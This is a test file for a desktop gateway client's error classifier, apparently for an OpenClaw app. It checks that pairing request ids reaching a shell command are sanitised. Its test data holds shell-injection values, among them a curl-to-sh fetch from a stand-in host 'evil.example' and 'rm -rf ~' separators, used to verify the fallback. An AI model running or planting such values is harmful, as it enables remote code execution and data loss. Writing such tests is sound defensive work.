import { describe, expect, it } from 'vitest'
import { classifyBareClose, classifyGatewayError, classifyStreamError, pairingApprovalCommand } from '../../../src/main/gateway/classify-gateway-error'
import { loadRecordedRefusals } from '../../support/fake-gateway'
import type { ErrorCode } from '../../../src/shared/errors'

// Every handshake refusal recorded from the real gateway, with the code the app must show.
const EXPECTED: Record<string, ErrorCode> = {
  'wrong-token-no-device': 'GATEWAY_TOKEN_MISMATCH',
  'wrong-token-with-device': 'GATEWAY_TOKEN_MISMATCH',
  'missing-token-no-device': 'DEVICE_IDENTITY_REQUIRED',
  'missing-token-with-fresh-device': 'GATEWAY_TOKEN_MISSING',
  'protocol-3-operator': 'PROTOCOL_MISMATCH',
  'protocol-5-operator': 'PROTOCOL_MISMATCH',
  'first-frame-not-connect(health req)': 'GATEWAY_REJECTED',
  'connect-params-invalid(extra field)': 'GATEWAY_REJECTED',
  'connect-unknown-client-id': 'GATEWAY_REJECTED',
  'bad-signature': 'DEVICE_AUTH_FAILED',
  'wrong-nonce': 'DEVICE_AUTH_FAILED',
  'stale-signedAt': 'DEVICE_AUTH_FAILED',
  'device-id-mismatch': 'DEVICE_AUTH_FAILED',
  'origin file:// (signed openclaw-linux/ui)': 'GATEWAY_ORIGIN_NOT_ALLOWED',
  'origin null (signed openclaw-linux/ui)': 'GATEWAY_ORIGIN_NOT_ALLOWED',
  'origin http://localhost:5173 (signed openclaw-linux/ui)': 'PAIRING_REQUIRED',
  'origin http://127.0.0.1:18789 (signed openclaw-linux/ui)': 'PAIRING_REQUIRED',
  'origin tauri://localhost (signed openclaw-linux/ui)': 'PAIRING_REQUIRED',
  'origin app://. (signed openclaw-linux/ui)': 'GATEWAY_ORIGIN_NOT_ALLOWED'
}

describe('gateway refusals recorded from a real gateway', () => {
  const refusals = loadRecordedRefusals().filter((r) => r.error)
  it('covers every recorded refusal', () => {
    expect(refusals.map((r) => r.name).sort()).toEqual(Object.keys(EXPECTED).sort())
  })
  it.each(refusals.map((r) => [r.name, r] as const))('%s', (name, r) => {
    const err = classifyGatewayError(r.error!, { ...(r.close ? { close: r.close } : {}), method: 'connect' })
    expect(err.code).toBe(EXPECTED[name])
    expect(err.details.gatewayCode).toBe(r.error!.code)
    if (err.code === 'PAIRING_REQUIRED') {
      const requestId = r.error!.details!.requestId as string
      expect(err.details.pairingRequestId).toBe(requestId)
      expect(err.nextSteps[0]).toMatchObject({ action: 'approve-pairing', command: `openclaw devices approve ${requestId}` })
    }
  })
})

describe('classification ignores message text', () => {
  it('a proxy-rewritten message does not change the verdict', () => {
    const rewritten = { code: 'INVALID_REQUEST', message: 'Invalid or missing token. Visit https://example/?token={...}', details: { code: 'AUTH_TOKEN_MISSING' } }
    expect(classifyGatewayError(rewritten).code).toBe('GATEWAY_TOKEN_MISSING')
  })
  it('protocol-3 pairing (no detail code) is recognised by code and request id', () => {
    const v3 = { code: 'NOT_PAIRED', message: 'Pairing required. Visit https://example/_admin/', details: { requestId: 'r-1' } }
    const err = classifyGatewayError(v3, { close: { code: 1008, reason: 'x' } })
    expect(err.code).toBe('PAIRING_REQUIRED')
    expect(err.details.pairingRequestId).toBe('r-1')
  })
  it('protocol mismatch by close code 1002 alone', () => {
    expect(classifyGatewayError({ code: 'INVALID_REQUEST', message: 'whatever' }, { close: { code: 1002, reason: '' } }).code).toBe('PROTOCOL_MISMATCH')
  })
  it('start-up UNAVAILABLE is retryable with the hint', () => {
    const err = classifyGatewayError({ code: 'UNAVAILABLE', message: 'gateway starting; retry shortly', retryable: true, retryAfterMs: 500, details: { reason: 'startup-sidecars' } }, { close: { code: 1013, reason: 'gateway starting' } })
    expect(err).toMatchObject({ code: 'GATEWAY_UNAVAILABLE', retryable: true, details: { retryAfterMs: 500 } })
  })
  it('missing scope after hello', () => {
    const err = classifyGatewayError({ code: 'FORBIDDEN', message: 'missing scope: operator.read', details: { code: 'MISSING_SCOPE', missingScope: 'operator.read' } }, { method: 'sessions.list' })
    expect(err).toMatchObject({ code: 'MISSING_SCOPE', details: { missingScope: 'operator.read' } })
  })
  it('bare closes', () => {
    expect(classifyBareClose({ code: 1013, reason: '' }, 'handshake').code).toBe('GATEWAY_UNAVAILABLE')
    expect(classifyBareClose({ code: 1008, reason: 'invalid request frame' }, 'handshake').code).toBe('CONNECTION_CLOSED')
  })
})

describe('pairing request ids from the gateway are not trusted into a shell command', () => {
  const pairing = (requestId: unknown) =>
    classifyGatewayError({ code: 'NOT_PAIRED', message: 'pairing required', details: { code: 'PAIRING_REQUIRED', reason: 'not-paired', requestId } })

  it.each(['6f1c2a3b-0d4e-4f5a-8b9c-0123456789ab', 'req_1.2:3-x', 'A'.repeat(128)])('a plain id (%s) goes into the approve command', (id) => {
    const err = pairing(id)
    expect(err.details.pairingRequestId).toBe(id)
    expect(err.nextSteps[0]!.command).toBe(`openclaw devices approve ${id}`)
  })

  it.each([
    ['a command substitution', '$(curl evil.example | sh)'],
    ['a command separator', 'abc; rm -rf ~'],
    ['a space', 'abc def'],
    ['quotes', `a'b"c`],
    ['a backtick', 'a`id`'],
    ['a newline', 'abc\nrm -rf ~'],
    ['an ESC sequence', 'abc\u001b[2J'],
    ['too long', 'A'.repeat(129)],
    ['empty', '']
  ])('an id with %s falls back to `openclaw devices list` and is not kept', (_what, id) => {
    const err = pairing(id)
    expect(err.code).toBe('PAIRING_REQUIRED')
    expect(err.details.pairingRequestId).toBeUndefined()
    expect(err.nextSteps[0]!.command).toBe('openclaw devices list')
    expect(JSON.stringify(err.nextSteps)).not.toContain(id === '' ? 'devices approve' : id)
  })

  it('a non-string id is ignored the same way', () => {
    expect(pairing({ toString: 'x' }).nextSteps[0]!.command).toBe('openclaw devices list')
  })

  it('pairingApprovalCommand itself refuses an unsafe id', () => {
    expect(pairingApprovalCommand('r-1')).toBe('openclaw devices approve r-1')
    expect(pairingApprovalCommand('r-1 && reboot')).toBe('openclaw devices list')
  })
})

describe('a refusal with an error that has no code', () => {
  it('is GATEWAY_REJECTED and keeps the text for the record', () => {
    const err = classifyGatewayError({ code: 'UNKNOWN', message: 'just a string' }, { method: 'connect' })
    expect(err.code).toBe('GATEWAY_REJECTED')
    expect(err.details.gatewayMessage).toBe('just a string')
    expect(err.message).toMatch(/no code/)
  })
})

describe('broken WebSocket streams (ws errors WS_ERR_*)', () => {
  const MB32 = 32 * 1024 * 1024
  it.each([
    ['WS_ERR_UNSUPPORTED_MESSAGE_LENGTH', 'a message larger than 32 MB'],
    ['WS_ERR_INVALID_UTF8', 'not valid UTF-8'],
    ['WS_ERR_INVALID_OPCODE', 'unknown type'],
    ['WS_ERR_UNEXPECTED_MASK', 'masked'],
    ['WS_ERR_SOMETHING_NEW', 'a malformed frame']
  ])('%s is a PROTOCOL_ERROR in plain words', (code, words) => {
    const err = classifyStreamError({ code }, { close: { code: 1002, reason: '' }, phase: 'ready', maxMessageBytes: MB32 })
    expect(err?.code).toBe('PROTOCOL_ERROR')
    expect(err?.message).toMatch(/^The gateway sent data that is not valid WebSocket \(/)
    expect(err?.message).toContain(words)
    expect(err?.details).toMatchObject({ systemCode: code, closeCode: 1002 })
  })
  it('other errors are left to the close to explain', () => {
    expect(classifyStreamError({ code: 'ECONNRESET' }, { phase: 'ready', maxMessageBytes: MB32 })).toBeUndefined()
    expect(classifyStreamError(undefined, { phase: 'handshake', maxMessageBytes: MB32 })).toBeUndefined()
  })
})
